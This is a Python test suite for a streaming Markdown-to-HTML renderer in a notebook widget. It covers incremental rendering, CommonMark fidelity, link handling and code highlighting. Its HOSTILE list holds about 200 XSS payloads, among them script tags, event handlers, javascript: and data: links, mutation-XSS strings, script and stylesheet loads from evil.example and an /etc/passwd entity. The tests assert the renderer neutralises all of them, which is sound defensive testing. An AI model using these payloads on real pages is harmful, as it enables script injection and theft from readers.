"""Model text to HTML: what grows block by block is what is rendered at once, and nothing in it runs or is fetched."""

from __future__ import annotations

import time

import nh3
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from support.html_safety import Parsed, check_safe

from tsn_frames.widget.rendering import highlight, incremental_markdown, markdown
from tsn_frames.widget.rendering.incremental_markdown import IncrementalMarkdown, render

PARTS = [
    "a", "b c", " ", "  ", "    ", "\n", "\n\n", "\r", "\r\n", "\t", "# h", "===", "---", "- ", "-", "* ", "+ ", "1", "1.", "1. ", "2) ", "> ", ">",
    "```", "```py\n", "~~~", "`", "``", "*", "**", "_", "~~", "[", "]", "(", ")", "[a]", "[a]: /u", "[a]: https://x.y", "[b]:\n",
    "[c]: https://x.y '", '"t"', "'", "](https://x.y)", "![", "<", ">", "<b>", "<https://x.y>", "&amp;", "&#0;", "\\", "| a | b |", "|---|:-:|", "| ", "|", "***",
    "x\n===\n", "\0", "\x0b", "\u2028", "é", "😀", "[A]", "[c]", "def f(x):\n  return 1\n", "\n[a]: https://new.x\n", "\n\ntext [a] and [b] and [c]\n\n", "- [a]\n", "    code\n",
]  # fmt: skip
ADDED = [
    "$", "$$", "\\(", "\\)", "\\[", "\\]", "$x$", "$$\n", "\n$$\n", "\\[\n", "\n\\]\n", "x_1", "^2^", "~2~", "&", "\\frac{a}{b}", "{", "}", "$5", "[^1]", "[^1]: a\n", "\n[^b]: c\n",
    "[^b]", "- [ ] ", "- [x] ", "https://x.y/z", "http:", "<br>", "<sub>2</sub>", "> $$\n", "- $$\n  ",
]  # fmt: skip
TEXTS = st.lists(st.sampled_from(PARTS), max_size=40).map("".join) | st.text(
    st.sampled_from("ab \n-*>`[]():/#|_1.\\!<\t"), max_size=60
)
WITH_ADDED = (
    TEXTS
    | st.lists(st.sampled_from(PARTS + 2 * ADDED), max_size=40).map("".join)
    | st.lists(st.sampled_from([*ADDED, "a", " ", "\n", "\n\n", "> ", "  "]), max_size=40).map("".join)
)

TAGS = nh3.ALLOWED_TAGS | {"s"}


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(WITH_ADDED, st.lists(st.integers(1, 12), min_size=1))
@example("$$\na\n\n# b\n\nc\n\nd\n", [1])
@example("a\n$$\n- b\n$$\n\nc\n\n$$ d\n+ e\n$$\n\nf\n", [1])
@example("a[^1]\n\nb\n\nc\n\n[^1]: d\n[^2]: e\n\n[^2]\n", [1])
@example("1. a\n\n1. b", [1])
@example("[a]\n\ntext\n\n[a]: https://x.y\n'one\ntwo'\n", [1])
@example("- a\n\n\n- b\n\n# c\n", [3])
@example("[a]\n\n# b\n\n[a]: https://x.y\n\nc\n\nd\n", [1])
@example("[a]\n\n[a]: https://x.y\n\nc\n", [1])
def test_what_grows_is_what_is_rendered_at_once(text, steps):
    page, shown, at = IncrementalMarkdown(), [], 0
    while at < len(text):
        at += steps[at % len(steps)]
        for i, html in page.grow(text[:at]):
            assert i <= len(shown), "positions leave no gap"
            shown[i : i + 1] = [html]
        assert "".join(shown) == "".join(page.blocks) == render(text[:at])


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(TEXTS.filter(lambda text: "!" not in text))
@example("[<https://x.y>](https://x.y)")
def test_the_structure_is_that_of_commonmark_and_its_tables(text):
    plain = MarkdownIt("commonmark", {"html": False, "breaks": True}).enable(["table", "strikethrough"])
    plain.validateLink = lambda url: url.lower().startswith(("http://", "https://"))
    with markdown._INLINES.reset_rules(), markdown._BLOCKS.reset_rules():
        for parser in (markdown._INLINES, markdown._BLOCKS):
            parser.disable(["added", "math_block", "footnote"])
        seen = Parsed(render(text))
    expected = Parsed(nh3.clean(plain.render(text), tags=TAGS))  # as a page reads it: no link in a link
    assert seen.outline == expected.outline


@pytest.mark.parametrize("depth", [1, 18, 19, 20, 21, 90])
@pytest.mark.parametrize("mark", ["> ", "- "])
def test_what_is_quoted_or_listed_again_and_again_is_shown(mark, depth):
    shown = render(f"before\n\n{mark * depth}deep text\n\nafter")
    assert "deep text" in shown and "before" in shown and "after" in shown


JS = "javascript:alert(1)"
# What a model may write to get at the reader's notebook, each its own way.
HOSTILE = [
    # HTML as it is
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=https://evil.example/x.js></script>", "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>", "<img/src='x'/onerror='alert(1)'>", "<img src=https://evil.example/p.png>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg/onload=alert(1)//",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>'/></svg>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math>", "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>", "<applet code=x></applet>", "<form action=javascript:alert(1)><button>x</button></form>", "<button onclick=alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<isindex action=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<video poster=javascript:alert(1)>",
    "<body onload=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<style>*{background:url(https://evil.example)}</style>", "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0;background:red'>x</div>", "<div style=\"background:url('javascript:alert(1)')\">x</div>", "<p id=notebook name=x class=jp-Cell>x</p>",
    "<a href=javascript:alert(1)>x</a>", "<a href='https://x.y' onclick=alert(1)>x</a>", "<a href='https://x.y' target=_self rel=opener>x</a>", "<x onclick=alert(1)>x</x>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<plaintext>x", "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->", "<!-- x --!><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    # HTML that becomes another one when it is parsed twice
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<svg></p><style><a title='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>", "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<listing>&lt;img onerror=alert(1) src&gt;</listing>", "<table><td><svg><desc><td><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)",
    "&#60;img src=x onerror=alert(1)&#62;", "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    # Links
    f"[x]({JS})", f"[x](<{JS}>)", f"[x]({JS} 'title')", "[x](JaVaScRiPt:alert(1))", "[x]( javascript:alert(1))", "[x](\tjavascript:alert(1))", "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](\x01javascript:alert(1))", "[x](\x00javascript:alert(1))", "[x](\x1bjavascript:alert(1))", "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script:alert(1))", "[x](&#106;avascript:alert(1))", "[x](&#x6A&#x61&#x76&#x61&#x73cript:alert(1))", "[x](javascript&colon;alert(1))", "[x](javascript\\:alert(1))",
    "[x](javascript%3Aalert(1))", "[x](\u00a0javascript:alert(1))", "[x](\u200bjavascript:alert(1))", "[x](\u202ejavascript:alert(1))", "[x](\ufeffjavascript:alert(1))", "[x](\uff4aavascript:alert(1))",
    "[x](javascript\uff1aalert(1))", "[x](javascript://example.com/%0aalert(1))", "[x](jav\u0131script:alert(1))", "[x](vbscript:msgbox(1))", "[x](VBSCRIPT:msgbox(1))", "[x](livescript:x)",
    "[x](data:text/html,<script>alert(1)</script>)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](data:image/svg+xml;base64,PHN2Zz4=)", "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](file:///etc/passwd)", "[x](blob:https://x.y/1)", "[x](filesystem:https://x.y/1)", "[x](about:blank)", "[x](view-source:https://x.y)", "[x](ws://x.y)", "[x](ftp://x.y)", "[x](mailto:a@b.c)",
    "[x](//evil.example)", "[x](\\\\evil.example)", "[x](/lab/tree/evil.ipynb)", "[x](../api/shutdown)", "[x](?x)", "[x](#x)", "[x]()", "[x](https:javascript:alert(1))", "[x](https:/lab)", "[x](http:///lab)",
    "[x](https:\\\\evil.example)", '[x](https://x.y" onclick="alert(1))', "[x](https://x.y' onclick='alert(1))", '[x](<https://x.y" onmouseover=alert(1)>)', "[x](https://x.y 'a\" onclick=\"alert(1)')",
    '[x](https://x.y "<script>alert(1)</script>")', "[x](https://x.y/`onclick=alert(1)`)", "[x](https://a:b@x.y)", "[<img src=x onerror=alert(1)>](https://x.y)", "[![x](https://x.y/a.png)](javascript:alert(1))",
    "[[x](javascript:alert(1))](https://x.y)", "[x](https://x.y)](javascript:alert(1))", "[a\n\n](javascript:alert(1))",
    # Links by reference, links in angle brackets
    f"[x]\n\n[x]: {JS}", f"[x][y]\n\n[y]: <{JS}> 'z'", f"[x]: {JS}\n[x]: https://x.y\n\n[x]", '[x]\n\n[x]: https://x.y "\\" onclick=alert(1) \\""', "![x][y]\n\n[y]: javascript:alert(1)",
    "[<b>]: https://x.y\n\n[<b>]", f"<{JS}>", "<data:text/html,x>", "<vbscript:x>", '<https://x.y/"onclick=alert(1)>', "<https://x.y/'><img src=x onerror=alert(1)>", "<a@b.c>", "<mailto:a@b.c>",
    "<JAVASCRIPT:alert(1)>", "<java\nscript:alert(1)>", "<x:alert(1)>",
    # Images
    f"![x]({JS})", "![x](https://evil.example/p.png)", "![x](data:image/svg+xml,<svg onload=alert(1)>)", '![" onerror="alert(1)](https://x.y/a.png)', '![x](https://x.y/a.png "\\" onerror=alert(1)")',
    "![<script>alert(1)</script>](https://x.y)", "[![a](https://x.y/a.png)](https://x.y)", "![![x](javascript:alert(1))](https://x.y)", "![x](/files/secret.png)", "![](https://x.y/a.png)",
    # Code
    "```<script>alert(1)</script>\nx\n```", '```"><img src=x onerror=alert(1)>\nx\n```', '```python" onclick="alert(1)\nx\n```', "```html\n<script>alert(1)</script>\n```", "```html\n<img src=x onerror=alert(1)>",
    "```js\n</code></pre><script>alert(1)</script>\n```", "~~~html onload=alert(1)\n</code>\n~~~", "`<script>alert(1)</script>`", "`` ` <img src=x onerror=alert(1)> ``", "    <script>alert(1)</script>\n",
    "```css\n</style><script>alert(1)</script>\n```", "```xml\n<![CDATA[</code><script>alert(1)</script>]]>\n```", "```__import__('os')\nx\n```", "```../../x\nx\n```",
    # Tables, lists, headings and what else takes attributes
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|\n", '|a|\n|:-:" onclick=alert(1)|\n', "|a|\n|-|\n|[x](javascript:alert(1))|\n", "# <script>alert(1)</script> {#id onclick=alert(1)}",
    "999999999. x\n", "1. <iframe src=javascript:alert(1)>\n", "> <form action=javascript:alert(1)>\n", "- [ ] <input onfocus=alert(1)>\n", "[^1]\n\n[^1]: <script>alert(1)</script>", "$$\\href{javascript:alert(1)}{x}$$",
    '<span class="k" onclick=alert(1)>x</span>', "\\<script>alert(1)\\</script>", "*<img src=x* onerror=alert(1)>", "**[x](javascript:alert(1)**)", "\x00<script\x00>alert(1)</script>", "<\x00script>alert(1)</script>",
    "\ud800<script>alert(1)</script>", "<img src=x onerror\x0b=alert(1)>", "\u2028<script>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_that_a_model_writes_runs_or_is_fetched(text):
    for shape in (
        text,
        f"a {text} b",
        f"- x\n  {text}\n",
        f"> {text}",
        f"| a |\n|---|\n| {text} |\n",
        f"**{text}**",
        f"[{text}](https://x.y)",
        f"# {text}",
    ):
        check_safe(render(shape))
        page = IncrementalMarkdown()
        for at in range(0, len(shape) + 7, 7):
            page.grow(shape[:at])
        check_safe("".join(page.blocks))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(HOSTILE + PARTS), min_size=2, max_size=6).map("".join))
def test_nothing_that_two_of_them_come_to_does_either(text):
    check_safe(render(text))


def test_the_allow_list_holds_where_markdown_would_let_something_through():
    loose = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    for text in HOSTILE:
        check_safe(markdown._CLEANER.clean(loose.render(text.encode("utf-8", "replace").decode())), ("http:", "https:"))


def test_the_corpus_is_hostile():
    """Without the two guards most of it would run: the corpus would notice."""
    loose, caught = MarkdownIt("commonmark", {"html": True}), 0
    loose.validateLink = lambda url: True
    for text in HOSTILE:
        try:
            check_safe(loose.render(text.encode("utf-8", "replace").decode()))
        except AssertionError:
            caught += 1
    assert caught > 0.6 * len(HOSTILE) > 100


def test_a_link_opens_a_new_tab_and_sends_no_referrer():
    assert render("[x](https://x.y)") == '<p><a href="https://x.y" target="_blank" rel="noopener noreferrer">x</a></p>\n'


def test_an_image_is_a_link_and_within_a_link_its_text():
    assert check_safe(render("![a *b*](https://x.y/p.png)")).attributes[0] == ("a", "href", "https://x.y/p.png")
    seen = check_safe(render("[![pic](https://x.y/p.png) more](https://x.y)"))
    assert (seen.tags, "".join(seen.texts)) == (["p", "a"], "pic more\n")


def test_code_is_coloured_by_classes_and_says_its_language():
    html = render("```py\ndef f():\n    return 'a'\n```")
    assert '<code class="language-python"><span class="k">def</span>' in html
    assert "style" not in html
    assert "".join(Parsed(render("```py\nx = 1\ny")).texts) == "x = 1\ny\n"
    assert render("```unknown\n<b>\n```") == "<pre><code>&lt;b&gt;\n</code></pre>\n"


def test_code_shows_the_characters_that_would_reorder_it():
    """What is read and copied is what runs: a mark that turns the direction of a line is shown, and breaks the code."""
    marks = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    for text in (f"```py\nif x: # {marks}\n```", f"    {marks}\n", f"```\n{marks}"):
        html = render(text)
        assert html.count("\ufffd") == len(marks) and not set(marks) & set(html)


def test_a_line_that_ends_is_ended():
    assert render("Kind regards,\nthe team  \nNova") == "<p>Kind regards,<br>\nthe team<br>\nNova</p>\n"


def test_a_table_has_its_alignment_as_a_class():
    html = render("| a | b |\n|:-:|--:|\n| 1 | 2 |\n")
    assert '<th class="center">a</th>' in html and '<td class="right">2</td>' in html


def test_code_in_a_long_fence_that_is_open_waits_for_its_colours(monkeypatch):
    monkeypatch.setattr(highlight, "LEXING", 60.0)  # however slow the machine is
    code = "x = 1\n" * 1000
    assert "<span" not in render(f"```py\n{code}")
    assert "<span" in render(f"```py\n{code}```\n")


def test_the_time_that_a_lexer_takes_to_load_is_not_taken_off_its_code(monkeypatch):
    """The first block of a language had no colours on a slow machine, and kept none."""
    load = highlight.get_lexer_by_name

    def slow(language, **options):
        end = time.thread_time() + 1.5 * highlight.LEXING
        while time.thread_time() < end:
            pass
        return load(language, **options)

    monkeypatch.setattr(highlight, "get_lexer_by_name", slow)
    assert "<span" in render("```py\nslow = 1\n```")


@pytest.mark.slow
def test_what_is_too_long_is_shown_as_it_is():
    text = "a *b* " * (incremental_markdown.MOST // 6 + 10)
    html = render(text)
    assert html.endswith("</code></pre>\n")
    assert "a *b*" in html[-80:]
    page = IncrementalMarkdown()
    page.grow(text)
    assert "".join(page.blocks) == html


def test_another_text_restarts_the_rendering():
    page = IncrementalMarkdown()
    page.grow("one\n\ntwo\n\nthree\n")
    assert page.grow("one\n") == [(1, ""), (2, "")]
    assert "".join(page.blocks) == render("one\n")
